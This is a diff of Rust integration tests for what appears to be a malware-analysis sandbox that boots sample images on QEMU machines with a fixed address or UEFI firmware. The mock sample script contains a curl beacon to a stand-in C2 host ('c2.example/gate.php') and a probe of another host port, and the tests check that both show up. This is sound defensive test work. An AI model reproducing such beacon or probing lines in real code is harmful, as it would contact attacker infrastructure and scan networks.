@@ -71,6 +71,7 @@ async fn start(host: Host, machines: &[Json]) -> Server {
 
 const SAMPLE: &str = "#!/bin/sh
 echo on $(awk '$2 == \"/\" {print $1}' /proc/mounts) $(basename $(readlink /sys/class/net/eth0/device/driver)) $(date +%Y)
+[ -d /sys/firmware/efi ] && echo firmware uefi
 /bin/ip -4 -o addr show eth0
 curl -sS -m 60 http://c2.example/gate.php
 curl -sS -m 5 http://10.0.2.2:2043/ >/dev/null && echo another port answers
@@ -116,6 +117,48 @@ async fn an_image_boots_on_the_hardware_that_it_was_made_for_and_is_not_written_
     assert!(ports.iter().all(|(from, to)| **from != 8000 && **to != 8000 && **to != 2042), "{ports:?}");
     let after = std::fs::metadata(image()).unwrap();
     assert_eq!((before.len(), before.modified().unwrap()), (after.len(), after.modified().unwrap()));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_system_with_an_address_of_its_own_is_reached_there() {
+    let Some(host) = host() else { return };
+    let fixed = json!({
+        "ip": "172.16.9.9", "resultserver_ip": "172.16.0.1", "prefix": 16, "resultserver_port": 2049,
+        "hardware": {"memory": 512, "cpus": 1, "machine": "pc", "disk": "ide", "mac": "52:54:00:ac:10:09"}
+    });
+    let server = start(host, &[machine("fixed", fixed)]).await;
+    let listed = &server.json("machines/list").await["machines"][0];
+    assert_eq!(
+        (&listed["ip"], &listed["resultserver_ip"], &listed["resultserver_port"]),
+        (&json!("172.16.9.9"), &json!("172.16.0.1"), &json!("2049"))
+    );
+    let begun = std::time::Instant::now();
+    let (_, report, log) = run(&server, "fixed", &[]).await;
+    eprintln!("with ide and an address of its own {:?}", begun.elapsed());
+    assert!(log.contains("sample: on /dev/sda1 e1000") && log.contains("172.16.9.9/16"), "{log}");
+    assert!(log.contains("c2.example is up"), "{log}");
+    assert_eq!(report["dropped"][0]["filepath"], "/tmp/dropped");
+    let udp = report["network"]["udp"].as_array().unwrap();
+    assert!(udp.iter().any(|flow| flow["src"] == "172.16.9.9" && flow["dst"] == "172.16.0.1"), "{udp:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_image_boots_by_uefi() {
+    let Some(host) = host() else { return };
+    let hardware = json!({"memory": 512, "cpus": 1, "machine": "q35", "firmware": "uefi", "nic": "e1000e"});
+    let uefi = machine("uefi", json!({"hardware": hardware}));
+    // Where the firmware is missing, it is the configuration that says so.
+    if let Err(why) = Configuration::read(json!({"machines": [uefi]})) {
+        assert!(why.contains("Debian's package is ovmf"), "{why}");
+        eprintln!("skipped: {why}; `cargo xtask setup` installs it");
+        return;
+    }
+    let server = start(host, &[uefi]).await;
+    let begun = std::time::Instant::now();
+    let (_, report, log) = run(&server, "uefi", &[]).await;
+    eprintln!("by uefi {:?}", begun.elapsed());
+    assert!(log.contains("sample: on /dev/sda1 e1000e") && log.contains("firmware uefi"), "{log}");
+    assert_eq!(report["dropped"][0]["filepath"], "/tmp/dropped");
 }
 
 #[tokio::test(flavor = "multi_thread")]
